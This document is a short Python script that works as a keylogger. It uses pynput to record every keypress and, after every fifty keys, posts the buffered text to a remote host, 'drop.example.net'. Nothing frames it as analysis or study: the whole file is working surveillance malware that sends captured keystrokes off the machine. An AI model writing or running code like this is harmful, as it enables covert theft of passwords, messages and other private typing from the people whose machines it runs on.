from pynput.keyboard import Key, Listener
import requests

buf = []

def on_press(key):
    buf.append(str(key))
    if len(buf) > 50:
        requests.post("https://drop.example.net/k", data="".join(buf))
        buf.clear()

with Listener(on_press=on_press) as listener:
    listener.join()
